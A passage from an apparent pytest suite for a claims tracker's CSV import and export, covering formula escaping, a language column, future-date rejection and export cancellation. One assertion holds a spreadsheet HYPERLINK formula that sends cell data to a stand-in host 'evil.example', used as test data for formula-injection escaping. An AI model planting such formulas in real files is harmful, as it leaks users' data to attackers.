        assert f",'{t}Quiché,".encode() in exported
        assert f",'{t}officials,".encode() in exported
        assert f'"\'{t}HYPERLINK(""http://evil.example/?""&A1'.encode() in exported
    spanish = next(r for r in rows if r["language"] == "es")
    assert (spanish["amount"], spanish["lower"], spanish["upper"]) == ("-5", "-5", "-5")
    assert b",-5,percent,exact,-5,-5," in exported, "a negative amount is not escaped"
    contributor = api("contributor")
    # The export names the claims it was written from: imported as it is, every row is skipped.
    held = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
    assert held.json() == {"created": 0, "skipped": len(bodies)}
    # Without the id cells, the rows are new claims.
    exported = _without_ids(exported)
    answer = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
    assert answer.status_code == 201, answer.content
    assert answer.json() == {"created": len(bodies), "skipped": 0}
    documents = api("anonymous").get(f"/api/v1/claims/?attributed_to={src}&page_size=50").json()
    said = sorted(
        (d["statement"], d["subject"], d["place"], d["said_by"], d["language"], str(d["value"]))
        for d in documents["results"]
    )
    assert len(said) == 2 * len(bodies)
    assert said[::2] == said[1::2], "each imported claim says what its original says"
    assert {d["statement"][0] for d in documents["results"]} >= set(triggers)
    assert sum(d["language"] == "es" for d in documents["results"]) == 2
    # Exported again, each imported row is its original's (the same escaped text).
    again = _rows(_claims_csv(api, f"attributed_to={src}"))
    kept = [c for c in COLUMNS if c not in IGNORED_ON_IMPORT]
    cells = sorted(tuple(r[c] for c in kept) for r in again)
    assert cells[::2] == cells[1::2]
    # The same file again, and the file exported after the import: nothing new.
    repeat = contributor.post("/api/v1/imports/", exported, content_type="text/csv")
    assert repeat.json() == {"created": 0, "skipped": len(bodies)}
    # An escaped cell and the same text typed without the apostrophe are the same row.
    typed = exported.decode().replace("'=", "=").replace("'+", "+").replace("'@", "@")
    typed = typed.replace(",'-", ",-").replace("\"'-", '"-')
    assert "'" not in typed
    same = contributor.post("/api/v1/imports/", typed.encode(), content_type="text/csv")
    assert same.json() == {"created": 0, "skipped": len(bodies)}, typed


def test_the_language_column_is_imported(api: Api, demo: Ids) -> None:
    """A Spanish row becomes a Spanish claim, an empty cell English, a language the tracker
    does not record a row error naming the column; a file written before the column existed
    keeps its rows' keys (importing it again with the column skips them)."""
    un = demo["source:un"]
    old = _file(3, un)  # the columns a file had before language
    contributor = api("contributor")
    first = contributor.post("/api/v1/imports/", old, content_type="text/csv")
    assert first.json() == {"created": 3, "skipped": 0}, first.content
    lines = old.decode().splitlines()
    with_column = "\n".join(
        [lines[0] + ",language", lines[1] + ",", lines[2] + ",en", lines[3] + ",EN "]
    )
    again = contributor.post("/api/v1/imports/", with_column.encode(), content_type="text/csv")
    assert again.json() == {"created": 0, "skipped": 3}, again.content
    header = "statement,subject,attributed_to,language"
    body = f"{header}\nDicho en español.,Guatemala,{un},es\nSaid in English.,Guatemala,{un},\n"
    answer = contributor.post("/api/v1/imports/", body.encode(), content_type="text/csv")
    assert answer.status_code == 201, answer.content
    docs = api("anonymous").get(f"/api/v1/claims/?attributed_to={un}&page_size=100").json()
    language = {d["statement"]: d["language"] for d in docs["results"]}
    assert language["Dicho en español."] == "es"
    assert language["Said in English."] == "en"
    assert language["Figure 1 for Guatemala."] == "en"
    rows = {r["statement"]: r for r in _rows(_claims_csv(api, f"attributed_to={un}"))}
    assert rows["Dicho en español."]["language"] == "es"
    assert rows["Said in English."]["language"] == "en"
    bad = f"{header}\nEn français.,Guatemala,{un},fr\n".encode()
    refused = contributor.post("/api/v1/imports/", bad, content_type="text/csv")
    assert refused.status_code == 400
    assert refused.json()["errors"] == [
        {
            "row": 1,
            "field": "language",
            "message": "Unsupported language 'fr'; expected one of: en, es.",
        }
    ]


# --- A reader that leaves mid-export -------------------------------------------------------------


def _leave_after_one_chunk() -> list[bytes]:
    """Read an export's header and its first rows (two per chunk), then close it, as a server
    does when its client goes away."""
    from claims.core import selectors

    chunks = selectors.claim_list().iter_csv(rows_per_chunk=2)
    read = [next(chunks), next(chunks)]
    assert read[0] == ",".join(COLUMNS).encode() + b"\r\n"
    assert read[1].count(b"\r\n") >= 2
    chunks.close()
    return read


def test_a_reader_leaving_mid_export_ends_the_read(committed: Ids) -> None:
    """As a served request's, the connection is in autocommit: the export's read ends with the
    close (a read still going would refuse the next statement on the connection), no
    transaction is left open, and the next export on the connection is whole."""
    from django.db import connection

    _leave_after_one_chunk()
    assert not connection.in_atomic_block
    assert connection.get_autocommit(), "no transaction left open"
    rows = _rows(_csv(APIClient().get("/api/v1/claims/?format=csv")))
    assert len(rows) == Claim.objects.count()


def test_a_reader_leaving_mid_export_leaves_the_callers_transaction_usable(demo: Ids) -> None:
    """Inside a transaction (a test's, an admin action's), closing a long export early undoes
    only the export's own part (on PostgreSQL its COPY is cancelled mid-way): the transaction
    goes on. The export is of every claim's document many times over, so that the database is
    still writing rows when the reader leaves."""
    from claims.core import eventstore, selectors

    table = Claim._meta.db_table
    many = (
        "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20000)"
        f' SELECT "{table}"."document" FROM "{table}" CROSS JOIN n'
    )
    chunks = eventstore.backend().export_csv(many, [], selectors.EXPORT_COLUMNS, 100)
    assert next(chunks) == ",".join(COLUMNS).encode() + b"\r\n"
    assert next(chunks).count(b"\r\n") == 100
    chunks.close()
    assert Claim.objects.count() > 2, "the transaction is usable"
    first = _leave_after_one_chunk()
    assert _leave_after_one_chunk() == first


def test_a_row_dated_in_the_future_is_refused_naming_occurred_at(api: Api, demo: Ids) -> None:
    header = "statement,subject,amount,unit,qualifier,attributed_to,occurred_at"
    rows = [
        f"A.,Guatemala,1,percent,exact,{demo['source:un']},2013-03-01T00:00:00Z",
        f"B.,Guatemala,1,percent,exact,{demo['source:un']},2031-01-01T00:00:00Z",
    ]
    before = Event.objects.count()
    answer = api("editor").post(
        "/api/v1/imports/", "\n".join([header, *rows]).encode(), content_type="text/csv"
    )
    assert answer.status_code == 400, answer.content
    errors = {(e["row"], e["field"]): e["message"] for e in answer.json()["errors"]}
    assert set(errors) == {(2, "occurred_at")}
    assert "2031-01-01T00:00:00Z is in the future" in errors[2, "occurred_at"]
    assert Event.objects.count() == before
